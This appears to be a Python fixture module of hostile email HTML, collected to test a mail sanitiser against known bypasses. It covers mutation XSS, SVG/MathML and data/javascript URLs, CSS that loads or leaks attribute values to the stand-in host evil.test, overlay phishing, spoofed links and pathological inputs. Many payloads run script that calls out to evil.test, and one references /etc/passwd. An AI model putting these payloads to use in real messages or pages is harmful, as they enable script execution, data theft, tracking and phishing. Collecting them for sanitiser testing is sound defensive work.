"""Hostile mail HTML beyond the corpus of test_hostile_mail: what is known to have got past sanitisers elsewhere.

Kinds: mutation (one parser's text is another's markup), foreign content, addresses, styles that load, read or cover,
odd documents, and markup that takes quadratic time. `RUN` is the script each tries to run, `EVIL` where each calls.
"""

from __future__ import annotations

from base64 import b64encode

EVIL = "//evil.test"
RUN = "top.hit=1;fetch(&quot;//evil.test/ran&quot;)"
IMG = f'<img src=x onerror="{RUN}">'
SCRIPT = '<script>top.hit=1;fetch("//evil.test/ran")</script>'
DATA_PAGE = f"data:text/html;base64,{b64encode(SCRIPT.encode()).decode()}"
SVG_TEXT = f"<svg xmlns='http://www.w3.org/2000/svg' onload='top.hit=1'>{SCRIPT}</svg>"
DATA_SVG = f"data:image/svg+xml;base64,{b64encode(SVG_TEXT.encode()).decode()}"

MUTATION = [
    # namespaces: leaving SVG and MathML at places that only the second parse sees
    f"<math><mtext><table><mglyph><style><math><title>{IMG}</title></math></style></mglyph></table></mtext></math>",
    f"<svg><desc><p><style><!--</style></p></desc></svg>{IMG}-->",
    f'<svg></p><title><style></title></style><a title="</title>{IMG}">',
    f"<math><mtext><form><form><mglyph><style></math>{IMG}</style>",
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{IMG}">',
    f"<math><mtext><table><mglyph><style><![CDATA[</style>{IMG}]]>",
    f"<svg><foreignObject><math><mi><mglyph><style></svg>{IMG}</style>",
    f"<math><mi><table><mi><mglyph><svg><mtext><textarea><path id='</textarea>{IMG}'>",
    f"<math><annotation-xml encoding='application/xhtml+xml'><svg><style><a title='</style>{IMG}'>",
    f"<svg><title><svg><style><img title='</style></title></svg>{IMG}'>",
    # depth: elements beyond a limit are moved, so that form and table are put elsewhere at the second parse
    "<div>" * 505 + f"<form><div></form><form><table><style><a title='</style>{IMG}'>",
    "<b>" * 510 + f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMG}'>",
    "<a>" * 600 + f"<svg><style><a title='</style>{IMG}'>",
    "<dl><dt>" * 256 + f"<svg><desc><style><a id='</style>{IMG}'>",
    # text that is raw for one parser and none for another
    f'<noscript><style></noscript>{IMG}</style></noscript><noembed><img title="</noembed>{IMG}"></noembed>',
    f'<noframes><p id="</noframes>{IMG}"></noframes><iframe><p title="</iframe>{IMG}"></iframe>',
    f'<xmp><a title="</xmp>{IMG}"></xmp><listing>&lt;img src=x onerror="{RUN}"&gt;</listing>',
    f'<title><a title="</title>{IMG}"></title><textarea><!--</textarea>{IMG}--></textarea>',
    f"<select><option><style></option></select>{IMG}</style><select><keygen>{SCRIPT}</select>",
    f"<option><select><template shadowrootmode=open><slot></slot>{SCRIPT}</template></select>",
    f"<div><template shadowrootmode=open>{IMG}<style>@import '//evil.test/t'</style></template></div>",
    f"<plaintext/>{IMG}",
    # comments and declarations that end at odd places
    f"<!-->{IMG}--><!--->{IMG}--><!--a--!>{IMG}--><!-- <!-- -->{IMG} -->",
    f"<!doctype html [<!ENTITY x '{IMG}'>]>&x;<?xml version='1.0'?><?php >{IMG} ?><!{IMG}><!-{IMG}>",
    f"</{IMG}></ {IMG}><%{IMG}%><{IMG}<<img src=x onerror={RUN} <p>",
    f"<style><style/>{IMG}<!--</style>--></style><style><![CDATA[<!--]]></style>{IMG}-->",
    f"<p \x00title='{IMG}'><im\x00g src=x onerror='{RUN}'><scr\x00ipt>top.hit=1</scr\x00ipt>",
    f"<p title='&lt;/p&gt;{IMG}' lang='\"{IMG}' dir=\"'{IMG}\" class=`{IMG}`>x</p><p title=\"`{IMG}`\" align='`'>y",
    f"<img alt=\"&lt;img src=x onerror='{RUN}'&gt;\" width=90 height=90 src=//evil.test/alt>",
    f"<img alt='``onerror={RUN}' width=90 height=90 src='//evil.test/`onerror={RUN}'>",
    f"<image src=x onerror='{RUN}'><img/src/onerror='{RUN}'><img\tsrc=x\fonerror='{RUN}'><img src=x\u00a0onerror='{RUN}'>",
    f"\ufeff+ADw-script+AD4-top.hit=1+ADw-/script+AD4-\x1b$B<img src=x onerror='{RUN}'>\x1b(B\x8e{IMG}",
    f"&lt;script&gt;top.hit=1&lt;/script&gt;&#60;img src=x onerror='{RUN}'&#62;\uff1cscript\uff1etop.hit=1\uff1c/script\uff1e",
]
FOREIGN = [
    f"<svg><animate xlink:href=#x attributeName=href values='javascript:{RUN};#'/><a id=x><text y=20>x</text></a></svg>",
    f"<svg><a><rect width=99 height=99 /><animate attributeName=href by='javascript:{RUN}' dur=1s fill=freeze></a></svg>",
    f"<svg><discard onbegin='{RUN}'/><animateTransform onbegin='{RUN}'/><script href=//evil.test/s.js /></svg>",
    "<svg><feImage href='//evil.test/fe'/><filter id=f><feImage xlink:href='//evil.test/fe2'/></filter><mask id=m><image href='//evil.test/m'/></mask></svg><p style='filter:url(#f)'>x</p>",
    "<svg><style>*{background:url(//evil.test/svgcss)}</style></svg><svg><style><![CDATA[@import '//evil.test/i';]]></style></svg>",
    f"<math href='javascript:{RUN}'>click</math><math><maction actiontype='statusline#{EVIL}' xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<img src='{DATA_SVG}'><img src='data:image/svg+xml,{SVG_TEXT}'><img src='data:image/png;base64,x' onload='{RUN}'><img src='{DATA_PAGE}'>",
    f"<a href='{DATA_PAGE}'>a</a><a href='DATA:text/html,{SCRIPT}'>b</a><a href='data:application/xhtml+xml,x'>c</a><area href='{DATA_SVG}'>",
    f"<embed src='{DATA_SVG}'><object data='{DATA_PAGE}'><param name=src value='{DATA_PAGE}'></object><iframe src='{DATA_PAGE}'></iframe>",
    f"<a href='&#x6A;&#x61;vascript&colon;{RUN}'>a</a><a href='jav&#x0A;ascript:{RUN}'>b</a><a href='\x01javascript:{RUN}'>c</a><a href='JaVaScRiPt&#58;{RUN}'>d</a>",
    f"<a href='javascript&#x3A//https://a.test/%0a{RUN}'>a</a><a href='https:javascript:{RUN}'>b</a><a href='feed:javascript:{RUN}'>c</a><a href='view-source:x'>d</a>",
    f"<a href='https://evil.test/\"onmouseover={RUN}//'>a</a><a href=\"https://evil.test/'><script>{RUN}</script>\">b</a><a href='https://[evil'>c</a><a href='https://%00/'>d</a>",
    "<a href='file:///etc/passwd'>a</a><a href='ms-word:ofe|u|//evil.test/x'>b</a><a href='search-ms:query=x&crumb=location:\\\\evil.test'>c</a><a href='\\\\evil.test\\x'>d</a><img src='file://evil.test/x'><img src='\\\\evil.test\\y'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'><meta http-equiv='refresh' content=\"0;//evil.test/r\"><META HTTP-EQUIV=refresh CONTENT='0'><meta name=referrer content=unsafe-url>",
    "<link rel='stylesheet' href='//evil.test/1'><link rel=preconnect href='//evil.test'><link rel=dns-prefetch href='//evil.test'><link rel=icon href='//evil.test/i'><link rel=modulepreload href='//evil.test/m.js'>",
    f"<base href='javascript:/{RUN}/'><base target='_top'><a href='#'>x</a><base href=//evil.test><img src=relative.png><a href=relative>y</a>",
    f"<body background=//evil.test/bg onpageshow='{RUN}' style='background:url(//evil.test/b2)'><html onclick='{RUN}' manifest=//evil.test/m><head profile=//evil.test/p>",
    f"<form action='javascript:{RUN}'><input type=submit formaction='javascript:{RUN}' value=x><input type=image src=//evil.test/ii><keygen autofocus onfocus='{RUN}'></form><button form=compose formaction=//evil.test>go</button>",
    "<form id=f></form><input form=f name=body><img name=cookie><form name=documentElement><input name=innerHTML></form><a id=location href=https://evil.test>x</a><a name=top id=top href=https://evil.test/>y</a>",
    f"<details open ontoggle='{RUN}'><summary>x</summary></details><p popover id=p onbeforetoggle='{RUN}'>x</p><button popovertarget=p>y</button><dialog open onclose='{RUN}'>z</dialog>",
    f"<p contenteditable onbeforeinput='{RUN}' tabindex=1 autofocus onfocus='{RUN}' accesskey=x onclick='{RUN}'>x</p><p onscrollsnapchange='{RUN}' onanimationstart='{RUN}' oncontentvisibilityautostatechange='{RUN}'>y</p>",
    f"<video controls autoplay src=//evil.test/v onloadstart='{RUN}'><track default src=//evil.test/t oncuechange='{RUN}'></video><audio src=//evil.test/a autoplay></audio><picture><source srcset='//evil.test/p 1x'><img srcset='//evil.test/q 1x' lowsrc=//evil.test/low dynsrc=//evil.test/dyn longdesc=//evil.test/ld usemap=#m></picture>",
    f"<x-element onclick='{RUN}'>x</x-element><p is=x-element>y</p><slot name=z onslotchange='{RUN}'></slot><object type='text/x-scriptlet' data=//evil.test/o></object><marquee onfinish='{RUN}' loop=1>m</marquee><layer src=//evil.test/l></layer><ilayer src=//evil.test/il></ilayer><xml src=//evil.test/x></xml>",
    "<a href=https://evil.test/ ping='//evil.test/ping' download target=_self rel=opener attributionsrc=//evil.test/as>x</a><img attributionsrc=//evil.test/at src=x><a href=https://evil.test imagesrcset='//evil.test/z'>x</a>",
    # Outlook's own
    f"<!--[if gte mso 9]><v:rect xmlns:v='urn:schemas-microsoft-com:vml' src='//evil.test/vml' onclick='{RUN}'><v:fill src='//evil.test/f'/></v:rect><xml><o:x/></xml>{IMG}<![endif]-->",
    f"<![if !mso]>{IMG}<![endif]><v:imagedata src='//evil.test/vi' o:href='//evil.test/oh' onerror='{RUN}'/><o:p onclick='{RUN}'>x</o:p><v:shape style='behavior:url(#default#VML)'>y</v:shape>",
    f"<!--[if mso]>--><p>shown</p>{IMG}<!--<![endif]--><style>v\\:*{{behavior:url(#default#VML)}}</style>",
]  # fmt: skip
STYLES = [
    # what loads
    "<style>@\\69mport '//evil.test/1';@IMPORT url(//evil.test/2);@import/**/'//evil.test/3';@charset 'x';@import 'data:text/css,p{}';</style>",
    "<style>p{background:URL(//evil.test/4);background:u\\72l(//evil.test/5);background:url/**/(//evil.test/6);background:\\000075rl(//evil.test/7)}</style><p>x",
    "<style>p{background:image(\"//evil.test/8\");background:-webkit-image-set(\"//evil.test/9\" 1x);background:cross-fade(url(//evil.test/10),red);background:src('//evil.test/11');background:element(#x);background:paint(x)}</style><p>x",
    "<style>:root{--u:url(//evil.test/12)}p{background:var(--u);background:env(x,url(//evil.test/13));background:attr(title type(<url>))}@property --p{syntax:'<url>';inherits:true;initial-value:url(//evil.test/14)}p{background:var(--p)}</style><p title=//evil.test/15>x",
    "<style>@counter-style a{symbols:url(//evil.test/16)}@font-face{font-family:a;src:local(x),url(//evil.test/17)}@color-profile p{src:url(//evil.test/18)}@page{background:url(//evil.test/19)}@keyframes k{from{background:url(//evil.test/20)}}p{animation:k 1s}</style><ol style='list-style:a'><li>x",
    "<style>p{cursor:url(//evil.test/21),auto;content:url(//evil.test/22);mask:url(//evil.test/23#m);clip-path:url(//evil.test/24#c);shape-outside:url(//evil.test/25);offset-path:url(//evil.test/26);filter:url(//evil.test/27);border-image-source:url(//evil.test/28);marker:url(//evil.test/29)}p::after{content:url(//evil.test/30)}</style><p>x",
    "<style>p{background:url(//evil.test/31</style><p style='background:url(//evil.test/32'>x</p><p style='background:\"//evil.test/33\n;color:red'>y</p><style>p{color:red;}/*</style>*/p{background:url(//evil.test/34)}</style>",
    "<style>@media all and (min-width:1px){@import '//evil.test/35';p{background:url(//evil.test/36)}}@container (width>1px){p{background:url(//evil.test/37)}}@scope (p){:scope{background:url(//evil.test/38)}}@starting-style{p{background:url(//evil.test/39)}}@layer a{@import '//evil.test/40'}@supports (x:url(//evil.test/41)){p{color:red}}</style><p>x",
    "<style type='text/x-other' media='screen' onload='top.hit=1' title=x>p{background:url(//evil.test/42)}</style><style nonce=x blocking=render>@namespace svg url(//evil.test/43);svg|a{color:red}</style><p>x",
    # strings with ends of declarations in them: who cuts at each `;` lets out what stands between two of them
    "<style>p{font-family:\"a;b\"}p{font-family:\";background:url(//evil.test/cut);x:\"}</style><p style='color:red;font-family:\";background:url(//evil.test/cut2);x:\"'>x",
    # what reads: selectors that match a part of a value, and tell by what they load
    "<style>a[href^='https://a']{background:url(//evil.test/a)}a[href*=token]{list-style:url(//evil.test/b)}input[value$=x]~*{background:url(//evil.test/c)}p:has(a[href]){background:url(//evil.test/d)}:is([title]){color:red}:where([id^=x]){color:red}p:not([class]){color:red}</style><p title=x id=xy>y",
    "<style>@font-face{font-family:leak;src:url(//evil.test/e);unicode-range:U+0041}p{font-family:leak}::-webkit-scrollbar{background:url(//evil.test/f)}p::first-line{background:url(//evil.test/g)}p:lang(en){color:red}:visited{color:red}:target{background:url(//evil.test/h)}</style><p>ABC",
    "<style>p{& [href]{color:red}} p{color:red;&:hover{background:url(//evil.test/i)}} p{;@media all{background:url(//evil.test/j)}}</style><p>x",
    # what covers, moves or never ends
    "<div style='position:fixed;inset:0;z-index:2147483647;background:#fff'>Sign in again</div><div style='POSITION : absolute;top:0'>x</div><div style='position:sticky;top:0'>y</div><div style='pos\\69tion:fixed'>z</div><div style='position:/**/fixed'>w</div>",
    "<style>html,body,div{position:fixed!important;top:0;left:0;width:100vw;height:100vh;transform:scale(99);translate:0 -999px;rotate:1turn;zoom:9}*{all:revert;position:absolute!important}.held-back{display:none}</style><div>x</div>",
    "<style>p{animation:x 1ms infinite;transition:all 9s;will-change:transform;view-transition-name:x;anchor-name:--a;scroll-timeline:--t;backdrop-filter:blur(99px);mix-blend-mode:difference;clip:rect(0 0 0 0)}@keyframes x{to{opacity:0}}</style><p style='margin-top:-9999px;position:relative;top:-9999px'>x",
    "<style>html{overflow:visible!important;scroll-behavior:smooth;scroll-snap-type:y}body{height:100dvh;min-height:100svh;width:100vi;block-size:100vb;font-size:50vmax;counter-reset:x;user-select:none;pointer-events:none;-webkit-user-modify:read-write;appearance:button;resize:both}</style>x",
    "<style>p{x:expression(top.hit=1);behavior:url(//evil.test/k);-moz-binding:url(//evil.test/l#x);width:e\\xpression(top.hit=1);background:url('javascript:top.hit=1');-o-link:'javascript:x';-ms-behavior:url(x)}</style><p>x",
    "<font face='x;background:url(//evil.test/m)' color='red;position:fixed' size='9999999'>x</font><hr color='url(//evil.test/n)' size=99999 width=99999><td width='expression(1)' height='100vh' bgcolor='url(//evil.test/o)'>y",
    "<p style='color:red;/*' title='*/background:url(//evil.test/p)'>x</p><p style='--a:{;background:url(//evil.test/q)'>y</p><p style='{background:url(//evil.test/r)}'>z</p><p style='color:red}body{background:url(//evil.test/s)'>w</p>",
    "<p style='background:#fff\\9;color:red\\;background:url(//evil.test/t);font-family:\"</style><img src=x onerror=top.hit=1>\"'>x</p><style>p{font-family:'</style><img src=x onerror=top.hit=1>'}</style><style>p{font-family:'\\3c/style\\3e\\3cimg src=x onerror=top.hit=1\\3e'}</style>",
]  # fmt: skip
ODD = [
    "<p dir=rtl>\u202egnp.exe\u2066 \u2067x\u2069 \u200f</p><bdo dir=rtl>moc.knab//:sptth</bdo><a href='https://evil.test/'>https://bank.test\u202e/\u2066moc.live</a>",
    "<a href='https://evil.test/'>https://b\u0430nk.test/</a><a href='https://xn--bnk-5cd.test/'>bank.test</a><a href='https://bank.test@evil.test/'>https://bank.test</a><a href='https://bank.test\\@evil.test/'>x</a>",
    "<a href='mailto:a@b.test?attach=/etc/passwd&bcc=eve@evil.test&body=x%0d%0aBcc:eve@evil.test&subject=<script>'>m</a><a href='tel:*%2306%23'>t</a><a href='sms:1'>s</a><a href='intent://x#Intent;end'>i</a><a href='tel:javascript:top.hit=1'>u</a>",
    "<img src='cid:a\"onerror=top.hit=1 x=\"'><img src='cid:<script>'><img src='CID:../../sign-out/'><img src='mid:x/y'><img src='/sign-out/'><img src='../../sign-out/'><img src='?delete'><img src='//evil.test:80/\\@x'><img src='http:evil.test/x'><img src='https:////evil.test/y'><img src='ht\ntps://evil.test/z'>",
    "<table><tr><td>" * 300 + "deep" + "</td></tr></table>" * 300,
    "<table><td><p><table>" * 400,
    "<a><b>" * 1500 + "</a>" * 1500,
    "<p>" * 400 + "<b><i>" * 20 + "</p>" * 400,
    "<style>" + "p{color:red}" * 4000 + "</style><p>x",
    "&" * 20_000 + "&#x" * 5000 + "&amp" * 5000,
    "<p " + "a=1 " * 10_000 + ">x</p><p " + "style='color:red' " * 2000 + ">y",
    "\u0000" * 2000 + "\ud7ff\ufffe\uffff" * 500 + "<p>x",
]  # fmt: skip
EVERY = [*MUTATION, *FOREIGN, *STYLES, *ODD]
